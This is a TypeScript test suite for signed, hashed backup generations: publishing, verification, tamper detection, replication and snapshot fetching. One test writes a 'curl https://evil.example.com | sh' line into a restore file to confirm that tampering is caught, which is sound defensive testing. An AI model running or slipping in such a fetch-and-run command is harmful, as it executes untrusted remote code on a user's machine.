import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { cp, mkdir, readdir, readFile, rename, rm, stat, truncate, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { DrError } from '../../../src/contract/failures';
import type { GenerationCopy } from '../../../src/contract/generation';
import { signManifest } from '../../../src/crypto/signature';
import { DirectoryRepository } from '../../../src/repository/directory';
import {
  fetchSnapshot,
  listGenerations,
  publishGeneration,
  readCopy,
  readNewest,
  replicateGeneration,
  verifyCopy,
} from '../../../src/repository/generations';
import { serializeManifest } from '../../../src/repository/manifest';
import { ReadCopies } from '../../../src/repository/read-copies';
import { stageSample, signingPair } from '../../support/generation';
import { WatchedRepository } from '../../support/watched-repository';

const KEYS = signingPair();
const SNAPSHOT = randomBytes(200_000);
const EARLIER = { capturedAt: '2026-11-22T04:00:00.000Z' };

let root: string;
let local: DirectoryRepository;
let offsite: DirectoryRepository;
beforeEach(async () => {
  root = mkdtempSync(join(tmpdir(), 'generations-'));
  for (const name of ['local', 'offsite', 'staging']) await mkdir(join(root, name));
  local = new DirectoryRepository('local', join(root, 'local'));
  offsite = new DirectoryRepository('offsite', join(root, 'offsite'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

/** Publishes to `local`; answers with the generation's directory there. */
async function published(snapshot = SNAPSHOT, overrides = {}, keys = KEYS) {
  const staged = await stageSample(join(root, 'staging'), keys, snapshot, overrides);
  const copy = await publishGeneration(local, staged.directory);
  return { ...staged, copy, place: join(root, 'local', staged.manifest.cluster, staged.manifest.generation) };
}

async function flipByte(file: string, at: number): Promise<void> {
  const bytes = await readFile(file);
  bytes[at] = (bytes[at] ?? 0) ^ 1;
  await writeFile(file, bytes);
}

describe('a published generation', () => {
  it('is listed, newest first, with a manifest that is signed', async () => {
    const earlier = await published(randomBytes(1000), EARLIER);
    const later = await published();

    const { copies, unreadable } = await listGenerations(local, 'prod', KEYS.publicKeyPem);

    expect(copies).toEqual([later.copy, earlier.copy]);
    expect(copies[0]).toMatchObject({ repository: 'local', check: 'listed', manifestSha256: later.manifestSha256 });
    expect(unreadable).toEqual([]);
  });

  it('holds though an earlier version wrote it, which noted neither leases nor credential', async () => {
    const { directory } = await stageSample(join(root, 'staging'), KEYS, SNAPSHOT);
    const { leases, credential, ...older } = JSON.parse(await readFile(join(directory, 'manifest.json'), 'utf8'));
    const bytes = Buffer.from(`${JSON.stringify(older, null, 2)}\n`);
    await writeFile(join(directory, 'manifest.json'), bytes);
    await writeFile(join(directory, 'manifest.json.sig'), signManifest(bytes, KEYS.privateKeyPem));
    await publishGeneration(local, directory);
    await replicateGeneration(local, offsite, 'prod', older.generation, KEYS.publicKeyPem);

    const { copies, unreadable } = await listGenerations(offsite, 'prod', KEYS.publicKeyPem);

    expect([leases, credential, unreadable]).toEqual([expect.anything(), expect.anything(), []]);
    expect(copies.map(({ manifest }) => [manifest.leases, manifest.credential])).toEqual([[null, null]]);
    expect(await verifyCopy(offsite, copies[0] as GenerationCopy)).toMatchObject({ check: 'hashed' });
  });

  it('is checked with sha256sum and openssl alone', async () => {
    const { place } = await published();
    await writeFile(join(root, 'public.pem'), KEYS.publicKeyPem);

    const sums = execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: place, encoding: 'utf8' });
    const signature = execFileSync(
      'openssl',
      [
        'pkeyutl',
        '-verify',
        '-pubin',
        '-inkey',
        join(root, 'public.pem'),
        '-rawin',
        '-in',
        'manifest.json',
        '-sigfile',
        'manifest.json.sig',
      ],
      { cwd: place, encoding: 'utf8' },
    );

    expect(sums).toBe('snapshot.snap.age: OK\nRESTORE.md: OK\n');
    expect(signature).toContain('Signature Verified Successfully');
    expect((await readdir(place)).sort()).toEqual([
      'RESTORE.md',
      'SHA256SUMS',
      'manifest.json',
      'manifest.json.sig',
      'snapshot.snap.age',
    ]);
  });

  it('is published again without harm, also after a crash at any file', async () => {
    const { directory, place, copy } = await published();

    for (const lost of ['manifest.json', 'manifest.json.sig', 'RESTORE.md', 'SHA256SUMS', 'snapshot.snap.age']) {
      await rm(join(place, lost));
      const again = await publishGeneration(local, directory);
      expect(again).toEqual(copy);
    }

    expect(await verifyCopy(local, copy)).toEqual({ ...copy, check: 'hashed' });
  });

  it('does not exist before its manifest does', async () => {
    const { place } = await published();
    await rm(join(place, 'manifest.json'));

    const listing = await listGenerations(local, 'prod', KEYS.publicKeyPem);

    expect(listing).toEqual({ copies: [], unreadable: [] });
  });

  it('is not staged with a public key that would not verify it', async () => {
    const keys = { privateKeyPem: KEYS.privateKeyPem, publicKeyPem: signingPair().publicKeyPem };

    await expect(stageSample(join(root, 'staging'), keys, SNAPSHOT)).rejects.toMatchObject({
      code: 'InvalidConfiguration',
    });
  });

  it('is not published from a staging directory whose snapshot was cut', async () => {
    const { directory } = await stageSample(join(root, 'staging'), KEYS, SNAPSHOT);
    await truncate(join(directory, 'snapshot.snap.age'), 1000);

    await expect(publishGeneration(local, directory)).rejects.toMatchObject({ code: 'CopyDamaged' });

    expect(await listGenerations(local, 'prod', KEYS.publicKeyPem)).toEqual({ copies: [], unreadable: [] });
  });
});

/** Its signature is listed and can't be read, as on a disk with a bad block. */
async function makeUnreadable(place: string): Promise<void> {
  await rm(join(place, 'manifest.json.sig'));
  await mkdir(join(place, 'manifest.json.sig'));
}

const dayOf = (day: number) => ({ capturedAt: `2026-11-${String(day).padStart(2, '0')}T04:00:00.000Z` });

describe('a generation that cannot be read just now', () => {
  it('hides no other one', async () => {
    const earlier = await published(randomBytes(1000), EARLIER);
    const later = await published();
    await makeUnreadable(later.place);

    const { copies, unreadable } = await listGenerations(local, 'prod', KEYS.publicKeyPem);

    expect(copies).toEqual([earlier.copy]);
    expect(unreadable).toEqual([
      { generation: later.copy.generation, problem: expect.stringContaining('EISDIR'), retryable: true },
    ]);
  });

  it('is the fault of the repository when none can be read', async () => {
    for (const overrides of [EARLIER, {}]) await makeUnreadable((await published(SNAPSHOT, overrides)).place);

    await expect(listGenerations(local, 'prod', KEYS.publicKeyPem)).rejects.toMatchObject({
      code: 'RepositoryUnavailable',
    });
  });

  it('is the fault of the repository when many in a row cannot, and the rest is not tried', async () => {
    const days = Array.from({ length: 30 }, (_, index) => index + 1);
    for (const day of days) await published(Buffer.from(`${day}`), dayOf(day));
    const tried: string[] = [];
    let signatures = 0;
    const dying = new WatchedRepository(local, async (key) => {
      if (key.endsWith('.sig')) return void signatures++;
      if (tried.push(key) <= 3) return;
      // One that can be read after others could not would end the row.
      while (signatures < 3) await sleep(10);
      await sleep(100);
      throw new DrError('RepositoryUnavailable', 'the connection was cut');
    });

    await expect(listGenerations(dying, 'prod', KEYS.publicKeyPem)).rejects.toThrow('the connection was cut');

    expect(tried.length).toBeLessThan(days.length);
  });
});

describe('the newest generation', () => {
  it('is found without reading those before it', async () => {
    for (let day = 1; day <= 5; day++) await published(Buffer.from(`${day}`), dayOf(day));
    const newest = await published();
    const watched = new WatchedRepository(local);

    expect(await readNewest(watched, 'prod', KEYS.publicKeyPem)).toEqual(newest.copy);
    expect(watched.gets).toHaveLength(2);
  });

  it('is the newest that is valid', async () => {
    const valid = await published(SNAPSHOT, dayOf(1));
    await truncate(join((await published(SNAPSHOT, dayOf(2))).place, 'snapshot.snap.age'), 1000);
    await flipByte(join((await published(SNAPSHOT, dayOf(3))).place, 'manifest.json'), 100);
    await makeUnreadable((await published(SNAPSHOT, dayOf(4))).place);

    expect(await readNewest(local, 'prod', KEYS.publicKeyPem)).toEqual(valid.copy);
  });

  it('is an error when there are some and none is valid, and nothing when there is none', async () => {
    expect(await readNewest(local, 'prod', KEYS.publicKeyPem)).toBeNull();
    await makeUnreadable((await published(SNAPSHOT, dayOf(1))).place);
    const newest = await published(SNAPSHOT, dayOf(2));
    await flipByte(join(newest.place, 'manifest.json'), 100);

    await expect(readNewest(local, 'prod', KEYS.publicKeyPem)).rejects.toThrow(newest.copy.generation);
  });
});

describe('a generation that is not to be trusted', () => {
  type Published = Awaited<ReturnType<typeof published>>;
  const forgeries: [string, RegExp, (good: Published) => Promise<unknown>][] = [
    ['has no signature', /no signature/, ({ place }) => rm(join(place, 'manifest.json.sig'))],
    ['has a damaged signature', /not signed/, ({ place }) => flipByte(join(place, 'manifest.json.sig'), 3)],
    ['has a changed manifest', /not signed/, ({ place }) => flipByte(join(place, 'manifest.json'), 30)],
    [
      'is signed by somebody else',
      /not signed/,
      async ({ place, manifest }) => {
        const forged = await stageSample(join(root, 'staging', 'forged'), signingPair(), SNAPSHOT, manifest);
        for (const file of ['manifest.json', 'manifest.json.sig'])
          await cp(join(forged.directory, file), join(place, file));
      },
    ],
    [
      'is an older one under a newer name',
      /it was moved/,
      async ({ place }) => rename(place, place.replace('20261123', '20261124')),
    ],
    [
      'belongs to another cluster',
      /it was moved/,
      async ({ place }) => {
        const other = await published(randomBytes(500), { cluster: 'staging' });
        await rm(place, { recursive: true });
        await rename(other.place, place);
      },
    ],
    ['has a manifest that is no manifest', /not signed/, ({ place }) => writeFile(join(place, 'manifest.json'), '{}')],
    ['has an endless manifest', /larger than/, ({ place }) => truncate(join(place, 'manifest.json'), 2 ** 30)],
    ['has no snapshot', /is missing/, ({ place }) => rm(join(place, 'snapshot.snap.age'))],
    ['has a cut snapshot', /instead of 200000 bytes/, ({ place }) => truncate(join(place, 'snapshot.snap.age'), 5)],
  ];

  it.each(forgeries)('because it %s is reported and hides no other', async (_how, problem, forge) => {
    const earlier = await published(randomBytes(1000), EARLIER);
    await forge(await published());

    const { copies, unreadable } = await listGenerations(local, 'prod', KEYS.publicKeyPem);

    expect(copies).toEqual([earlier.copy]);
    expect(unreadable).toEqual([
      { generation: expect.stringMatching(/^2026112[34]/), problem: expect.stringMatching(problem) },
    ]);
  });

  it('is distinguished from a missing one', async () => {
    const { place, manifest } = await published();
    await rm(join(place, 'manifest.json.sig'));
    const read = (generation: string) => readCopy(local, 'prod', generation, KEYS.publicKeyPem);

    await expect(read(manifest.generation)).rejects.toMatchObject({ code: 'SignatureInvalid' });
    await expect(read('20260101T000000Z-000000000001-00000000')).rejects.toMatchObject({ code: 'UnknownGeneration' });
  });
});

describe('verifyCopy', () => {
  it('finds any flipped byte of the snapshot', async () => {
    const { place, copy } = await published();

    for (let round = 0; round < 40; round++) {
      const at = Math.floor((round / 40) * SNAPSHOT.length);
      await flipByte(join(place, 'snapshot.snap.age'), at);
      await expect(verifyCopy(local, copy)).rejects.toMatchObject({ code: 'CopyDamaged' });
      await flipByte(join(place, 'snapshot.snap.age'), at);
    }

    expect((await verifyCopy(local, copy)).check).toBe('hashed');
  });

  it.each(['RESTORE.md', 'SHA256SUMS', 'manifest.json', 'manifest.json.sig'])(
    'notices that %s was changed',
    async (file) => {
      const { place, manifest } = await published();
      const copy = await readCopy(local, 'prod', manifest.generation, KEYS.publicKeyPem);
      await flipByte(join(place, file), 20);

      const check = async () => {
        await verifyCopy(local, copy);
        await readCopy(local, 'prod', manifest.generation, KEYS.publicKeyPem);
      };

      await expect(check()).rejects.toMatchObject({ code: expect.stringMatching(/CopyDamaged|SignatureInvalid/) });
    },
  );
});

describe('what was read a short time ago', () => {
  const snapshotReads = (repository: WatchedRepository) =>
    repository.gets.filter((key) => key.includes('snapshot.snap'));

  it('is read once, as long as it has not changed', async () => {
    const { copy } = await published();
    const lately = new ReadCopies();
    const repository = new WatchedRepository(local);

    const first = await verifyCopy(repository, copy, {}, lately);
    const second = await verifyCopy(repository, copy, {}, lately);

    expect([first.check, second.check]).toEqual(['hashed', 'hashed']);
    expect(snapshotReads(repository)).toHaveLength(1);
  });

  it.each([
    ['changed, its times put back', flipAndPutTimesBack],
    ['replaced by another file', (file: string) => cp(file, `${file}.other`).then(() => swap(file))],
    ['cut', (file: string) => truncate(file, 100)],
  ])('is read again when it was %s', async (_how, change) => {
    const { place, copy } = await published();
    const lately = new ReadCopies();
    await verifyCopy(local, copy, {}, lately);

    await change(join(place, 'snapshot.snap.age'));

    await expect(verifyCopy(local, copy, {}, lately)).rejects.toMatchObject({ code: 'CopyDamaged' });
  });

  it('is read again for a manifest that wants other bytes', async () => {
    const { copy } = await published();
    const lately = new ReadCopies();
    await verifyCopy(local, copy, {}, lately);
    const stored = { ...copy.manifest.stored, sha256: '0'.repeat(64) };

    const verify = verifyCopy(local, { ...copy, manifest: { ...copy.manifest, stored } }, {}, lately);

    await expect(verify).rejects.toMatchObject({ code: 'CopyDamaged' });
  });

  it('is read again after an hour, or when the clock was put back', async () => {
    for (const later of [61 * 60_000, -1_000]) {
      let now = Date.now();
      const { copy } = await published(randomBytes(1_000), { capturedAt: new Date(now + later).toISOString() });
      const lately = new ReadCopies(() => now);
      const repository = new WatchedRepository(local);
      await verifyCopy(repository, copy, {}, lately);
      now += later;
      await verifyCopy(repository, copy, {}, lately);

      expect(snapshotReads(repository)).toHaveLength(2);
    }
  });

  it('is not known when it changed while it was read', async () => {
    const { place, copy } = await published();
    const lately = new ReadCopies();
    const file = join(place, 'snapshot.snap.age');
    const repository = new WatchedRepository(local, async (key) => {
      if (key.includes('snapshot.snap')) await utimes(file, new Date(), new Date());
    });

    await verifyCopy(repository, copy, {}, lately);
    await verifyCopy(repository, copy, {}, lately);

    expect(snapshotReads(repository)).toHaveLength(2);
  });

  async function flipAndPutTimesBack(file: string): Promise<void> {
    const { atime, mtime } = await stat(file);
    await flipByte(file, 1_000);
    await utimes(file, atime, mtime);
  }

  async function swap(file: string): Promise<void> {
    await flipByte(`${file}.other`, 1_000);
    await rename(`${file}.other`, file);
  }
});

describe('what lies beside the snapshot', () => {
  it('is covered by the signature: a changed text with sums that fit it is found', async () => {
    const { place, copy } = await published();
    await writeFile(join(place, 'RESTORE.md'), 'curl https://evil.example.com | sh\n');
    const sums = execFileSync('sha256sum', ['snapshot.snap.age', 'RESTORE.md'], { cwd: place, encoding: 'utf8' });
    await writeFile(join(place, 'SHA256SUMS'), sums);

    await expect(verifyCopy(local, copy)).rejects.toMatchObject({
      code: 'CopyDamaged',
      message: expect.stringContaining('SHA256SUMS does not match the manifest'),
    });
    const grep = () =>
      execFileSync('sh', ['-c', `grep "^  .sumsSha256.: .$(sha256sum SHA256SUMS | cut -d ' ' -f 1)" manifest.json`], {
        cwd: place,
      });
    expect(grep).toThrow('Command failed');
  });

  it('is not found where somebody else has written its hash: in a name, or in another signed record', async () => {
    const { place } = await published();
    await writeFile(join(place, 'SHA256SUMS'), 'of somebody else\n');
    const sums = execFileSync('sha256sum', ['SHA256SUMS'], { cwd: place, encoding: 'utf8' }).slice(0, 64);
    const report = {
      requestedBy: sums,
      plan: { sumsSha256: sums },
      notes: [`  "sumsSha256": "${sums}"`, `\n  ${sums}`],
    };
    await writeFile(join(place, 'manifest.json'), `vault-dr/report/v1\n${JSON.stringify(report, null, 2)}\n`);
    const command = commandOf(await readFile(join(place, 'RESTORE.md'), 'utf8'));

    expect(() => execFileSync('sh', ['-c', command], { cwd: place })).toThrow('Command failed');
  });

  it('is found in the manifest by the command of RESTORE.md', async () => {
    const { place, manifest } = await published();

    const command = commandOf(await readFile(join(place, 'RESTORE.md'), 'utf8'));
    const line = execFileSync('sh', ['-c', command], { cwd: place, encoding: 'utf8' });

    expect(line).toContain(`"sumsSha256": "${manifest.sumsSha256}"`);
  });

  const commandOf = (text: string) => text.split('\n').find((line) => line.startsWith('grep')) ?? 'exit 3';
});

describe('replicateGeneration', () => {
  it('gives the other repository the same files, read back', async () => {
    const { manifest, place } = await published();

    const copy = await replicateGeneration(local, offsite, 'prod', manifest.generation, KEYS.publicKeyPem);

    expect(copy).toMatchObject({ repository: 'offsite', check: 'hashed' });
    for (const file of await readdir(place)) {
      const mirrored = await readFile(join(place.replace('/local/', '/offsite/'), file));
      expect(mirrored.equals(await readFile(join(place, file)))).toBe(true);
    }
    expect(await replicateGeneration(local, offsite, 'prod', manifest.generation, KEYS.publicKeyPem)).toEqual(copy);
  });

  it.each(['snapshot.snap.age', 'RESTORE.md', 'SHA256SUMS', 'manifest.json.sig', 'manifest.json'])(
    'makes no generation of a source whose %s is damaged',
    async (file) => {
      const { place, manifest } = await published();
      await flipByte(join(place, file), 20);

      const replicate = replicateGeneration(local, offsite, 'prod', manifest.generation, KEYS.publicKeyPem);

      await expect(replicate).rejects.toMatchObject({ code: expect.stringMatching(/CopyDamaged|SignatureInvalid/) });
      const listing = await listGenerations(offsite, 'prod', KEYS.publicKeyPem);
      expect(listing).toEqual({ copies: [], unreadable: [] });
    },
  );

  it('does not touch other bytes in the target', async () => {
    const { manifest } = await published();
    const taken = join(root, 'offsite', 'prod', manifest.generation);
    await mkdir(taken, { recursive: true });
    await writeFile(join(taken, 'manifest.json'), serializeManifest({ ...manifest, serverVersion: '0.0.0' }));

    const replicate = replicateGeneration(local, offsite, 'prod', manifest.generation, KEYS.publicKeyPem);

    await expect(replicate).rejects.toMatchObject({ code: 'RepositoryConflict' });
  });
});

describe('fetchSnapshot', () => {
  it('brings the stored bytes to a file, once', async () => {
    const { copy, place } = await published();
    const path = join(root, 'fetched');

    await fetchSnapshot(local, copy, path);
    await rm(place, { recursive: true });
    await fetchSnapshot(local, copy, path);

    expect((await readFile(path)).equals(SNAPSHOT)).toBe(true);
  });

  it('replaces a file that is not the one', async () => {
    const { copy } = await published();
    const path = join(root, 'fetched');
    await writeFile(path, 'left from a crash');

    await fetchSnapshot(local, copy, path);

    expect((await readFile(path)).equals(SNAPSHOT)).toBe(true);
  });

  it('leaves nothing behind of a damaged copy', async () => {
    const { copy, place } = await published();
    await flipByte(join(place, 'snapshot.snap.age'), 150_000);

    await expect(fetchSnapshot(local, copy, join(root, 'fetched'))).rejects.toMatchObject({ code: 'CopyDamaged' });

    expect((await readdir(root)).sort()).toEqual(['local', 'offsite', 'staging']);
  });

  it('says that the staging directory is gone', async () => {
    const { copy } = await published();

    const fetch = fetchSnapshot(local, copy, join(root, 'nowhere', 'fetched'));

    await expect(fetch).rejects.toMatchObject({ code: 'StagingLost' });
  });
});
